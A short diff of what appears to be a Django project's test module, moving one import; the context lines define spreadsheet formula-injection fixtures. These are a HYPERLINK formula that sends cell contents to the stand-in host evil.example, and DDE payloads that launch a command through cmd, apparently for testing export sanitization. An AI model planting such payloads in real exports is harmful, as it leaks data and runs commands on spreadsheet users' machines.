@@ -25,9 +25,9 @@ from django.db import models, transaction
 
 import cqo
 from cqo.core.exports import DANGEROUS_LEADS
+from cqo.testing.matrix import ANONYMOUS, World, routes, url_for
 
 from .matrix import EXPECTED, expected, kwargs_for, world_build
-from .urlwalk import ANONYMOUS, World, routes, url_for
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 LEADS = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
